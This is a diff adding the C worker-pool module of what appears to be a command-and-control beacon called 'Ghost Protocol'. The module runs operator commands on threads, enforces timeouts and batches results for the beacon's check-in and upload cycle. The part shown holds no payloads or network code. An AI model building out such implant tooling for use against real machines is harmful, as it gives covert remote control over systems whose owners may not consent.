@@ -0,0 +1,328 @@
+/*
+ * Ghost Protocol Beacon - Worker Pool Implementation
+ * Runs commands on a bounded set of threads and hands results back to the check-in loop
+ */
+
+#include "worker_pool.h"
+#include "poll_schedule.h"
+#include "records.h"
+
+static worker_t g_workers[WORKER_POOL_MAX_THREADS];
+static int g_worker_count = 0;
+static int g_outstanding = 0;    // network thread only, summed over the workers
+static sync_sem_t g_output_ready;
+static int g_started = 0;
+static volatile long g_stopping = 0;
+static volatile long g_live_workers = 0;
+static volatile long g_next_ticket = 0;
+static int g_timeout_ms = WORKER_POOL_DEFAULT_TIMEOUT * 1000;
+
+// Stands in for a result the worker had no memory to build, so the command is still accounted for
+static int g_lost_result;
+
+#ifdef _WIN32
+static DWORD WINAPI worker_thread(LPVOID arg) {
+#else
+static void* worker_thread(void* arg) {
+#endif
+    worker_t* worker = arg;
+    
+    for (;;) {
+        command_record_t* command = spsc_queue_pop(&worker->commands);
+        if (!command) {
+            if (sync_load(&g_stopping)) {
+                break;
+            }
+            sync_sem_wait(&worker->work_ready);
+            continue;
+        }
+        
+        // Published before the ticket, so the network thread sees them once it sees the command running
+        long ticket = sync_fetch_add(&g_next_ticket, 1) + 1;
+        strncpy(worker->running_id, COMMAND_ID(command), sizeof(worker->running_id) - 1);
+        sync_store64(&worker->deadline_ms, monotonic_ms() + g_timeout_ms + WORKER_POOL_TIMEOUT_GRACE_MS);
+        sync_store(&worker->running, ticket);
+        
+        result_record_t* result = execute_command(command, NULL);
+        record_free(NULL, command);
+        
+        // Losing this race means the command timed out: it was already reported, and the
+        // rings now belong to the thread that replaced this one
+        if (!sync_cas(&worker->running, ticket, 0)) {
+            record_free(NULL, result);
+            break;
+        }
+        // Read before the push: the network thread owns the record, and may free it, from then on
+        int scheduled = result && result->scheduled;
+        spsc_queue_push(&worker->results, result ? (void*)result : (void*)&g_lost_result);
+        
+        // Recurring runs are batched into the regular check-in rather than cutting the sleep short
+        if (!scheduled) {
+            sync_sem_post(&g_output_ready);
+        }
+    }
+    
+    sync_fetch_add(&g_live_workers, -1);
+
+#ifdef _WIN32
+    return 0;
+#else
+    return NULL;
+#endif
+}
+
+// Workers are detached so shutdown never waits on a command that will not finish
+static int start_worker(worker_t* worker) {
+    sync_fetch_add(&g_live_workers, 1);
+#ifdef _WIN32
+    HANDLE thread = CreateThread(NULL, 0, worker_thread, worker, 0, NULL);
+    if (thread) {
+        CloseHandle(thread);
+        return 0;
+    }
+#else
+    pthread_t thread;
+    if (pthread_create(&thread, NULL, worker_thread, worker) == 0) {
+        pthread_detach(thread);
+        return 0;
+    }
+#endif
+    sync_fetch_add(&g_live_workers, -1);
+    return -1;
+}
+
+int worker_pool_init(int thread_count, int timeout_seconds) {
+    if (thread_count <= 0) {
+        return -1;
+    }
+    if (thread_count > WORKER_POOL_MAX_THREADS) {
+        thread_count = WORKER_POOL_MAX_THREADS;
+    }
+    
+    memset(g_workers, 0, sizeof(g_workers));
+    sync_sem_init(&g_output_ready);
+    g_stopping = 0;
+    g_outstanding = 0;
+    g_timeout_ms = (timeout_seconds > 0 ? timeout_seconds : WORKER_POOL_DEFAULT_TIMEOUT) * 1000;
+    
+    g_worker_count = 0;
+    for (int i = 0; i < thread_count; i++) {
+        worker_t* worker = &g_workers[g_worker_count];
+        spsc_queue_init(&worker->commands);
+        spsc_queue_init(&worker->results);
+        sync_sem_init(&worker->work_ready);
+        if (start_worker(worker) != 0) {
+            break;
+        }
+        worker->alive = 1;
+        g_worker_count++;
+    }
+    
+    g_started = g_worker_count > 0;
+    return g_started ? 0 : -1;
+}
+
+// Copies the command onto the least loaded worker's ring; returns -1 when the pool is full
+// or not running
+int worker_pool_submit(const command_record_t* command) {
+    if (!g_started || g_outstanding >= WORKER_POOL_MAX_JOBS) {
+        return -1;
+    }
+    
+    worker_t* target = NULL;
+    for (int i = 0; i < g_worker_count; i++) {
+        if (g_workers[i].alive && (!target || g_workers[i].outstanding < target->outstanding)) {
+            target = &g_workers[i];
+        }
+    }
+    if (!target) {
+        return -1;
+    }
+    
+    // The record lives in the cycle arena, so the worker gets its own copy
+    command_record_t* copy = command_record_clone(NULL, command);
+    if (!copy) {
+        return -1;
+    }
+    
+    // Cannot fill up: no worker holds more than WORKER_POOL_MAX_JOBS commands
+    if (spsc_queue_push(&target->commands, copy) != 0) {
+        record_free(NULL, copy);
+        return -1;
+    }
+    target->outstanding++;
+    g_outstanding++;
+    sync_sem_post(&target->work_ready);
+    return 0;
+}
+
+static result_record_t* failed_result(const char* command_id, const char* message) {
+    result_record_t* result = result_record_create(NULL, command_id, 64);
+    if (result) {
+        result_record_printf(NULL, &result, "%s", message);
+        result->success = 0;
+    }
+    return result;
+}
+
+// Reports a command over its deadline and hands its worker's rings to a fresh thread; the
+// old thread finishes the command in the background and exits without touching them
+static result_record_t* abandon_overdue(worker_t* worker, long long now) {
+    long ticket = sync_load(&worker->running);
+    if (ticket <= 0 || now < sync_load64(&worker->deadline_ms)) {
+        return NULL;
+    }
+    
+    // The command may have finished meanwhile, in which case its own result is on the ring
+    if (!sync_cas(&worker->running, ticket, WORKER_ABANDONED)) {
+        return NULL;
+    }
+    
+    // running_id stays put until a replacement starts: the thread that wrote it is done with the rings
+    char message[64];
+    snprintf(message, sizeof(message), "Command timed out after %d seconds", g_timeout_ms / 1000);
+    result_record_t* result = failed_result(worker->running_id, message);
+    
+    worker->outstanding--;
+    g_outstanding--;
+    sync_store(&worker->running, 0);
+    if (start_worker(worker) != 0) {
+        worker->alive = 0;
+    }
+    return result;
+}
+
+// Moves finished (or timed-out) results out of the pool without blocking on any command;
+// the caller owns the returned heap records
+int worker_pool_collect(result_record_t** results, int max_results) {
+    if (!g_started) {
+        return 0;
+    }
+    
+    int count = 0;
+    long long now = monotonic_ms();
+    
+    // Whatever finishes after this point wakes the next worker_pool_wait
+    while (sync_sem_trywait(&g_output_ready) == 0) {
+    }
+    
+    for (int i = 0; i < g_worker_count && count < max_results; i++) {
+        worker_t* worker = &g_workers[i];
+        void* item;
+        
+        while (count < max_results && (item = spsc_queue_pop(&worker->results)) != NULL) {
+            worker->outstanding--;
+            g_outstanding--;
+            if (item != &g_lost_result) {
+                results[count++] = item;
+            }
+        }
+        
+        if (count < max_results && worker->alive) {
+            result_record_t* result = abandon_overdue(worker, now);
+            if (result) {
+                results[count++] = result;
+            }
+        }
+        
+        // No thread could be started for these, so they are reported rather than left waiting
+        command_record_t* command;
+        while (!worker->alive && count < max_results &&
+               (command = spsc_queue_pop(&worker->commands)) != NULL) {
+            result_record_t* result = failed_result(COMMAND_ID(command), "No worker available to run the command");
+            record_free(NULL, command);
+            worker->outstanding--;
+            g_outstanding--;
+            if (result) {
+                results[count++] = result;
+            }
+        }
+    }
+    
+    return count;
+}
+
+// Commands submitted and not yet collected (timed-out commands are not counted)
+int worker_pool_pending(void) {
+    return g_started ? g_outstanding : 0;
+}
+
+// Sleeps up to timeout_ms, or less once there is output to send: returns 1 early for a
+// finished job or spool chunk, and cuts the sleep short when a running job hits its deadline
+int worker_pool_wait(int timeout_ms) {
+    if (!g_started) {
+        sleep_milliseconds(timeout_ms);
+        return 0;
+    }
+    
+    long long now = monotonic_ms();
+    long long deadline = now + timeout_ms;
+    for (int i = 0; i < g_worker_count; i++) {
+        if (g_workers[i].alive && sync_load(&g_workers[i].running) > 0) {
+            long long running_deadline = sync_load64(&g_workers[i].deadline_ms);
+            if (running_deadline < deadline) {
+                deadline = running_deadline;
+            }
+        }
+    }
+    
+    if (deadline <= now) {
+        return 0;
+    }
+    if (sync_sem_timedwait(&g_output_ready, (int)(deadline - now)) != 0) {
+        return 0;
+    }
+    
+    // The token is put back so the collect that follows still sees the pending output
+    sync_sem_post(&g_output_ready);
+    return 1;
+}
+
+// Wakes worker_pool_wait; the spool calls this once a chunk is ready to upload
+void worker_pool_notify(void) {
+    if (!g_started) {
+        return;
+    }
+    
+    sync_sem_post(&g_output_ready);
+}
+
+void worker_pool_shutdown(int grace_ms) {
+    if (!g_started) {
+        return;
+    }
+    
+    long long deadline = monotonic_ms() + grace_ms;
+    
+    sync_store(&g_stopping, 1);
+    for (int i = 0; i < g_worker_count; i++) {
+        sync_sem_post(&g_workers[i].work_ready);
+    }
+    
+    // Idle workers exit at once; busy ones get until the deadline
+    while (sync_load(&g_live_workers) > 0 && monotonic_ms() < deadline) {
+#ifdef _WIN32
+        Sleep(10);
+#else
+        usleep(10000);
+#endif
+    }
+    
+    // The rings can only be emptied once no thread serves them; a command still running
+    // is left to its thread
+    if (sync_load(&g_live_workers) == 0) {
+        for (int i = 0; i < g_worker_count; i++) {
+            void* item;
+            while ((item = spsc_queue_pop(&g_workers[i].commands)) != NULL) {
+                record_free(NULL, item);
+            }
+            while ((item = spsc_queue_pop(&g_workers[i].results)) != NULL) {
+                if (item != &g_lost_result) {
+                    record_free(NULL, item);
+                }
+            }
+        }
+    }
+    
+    g_started = 0;
+}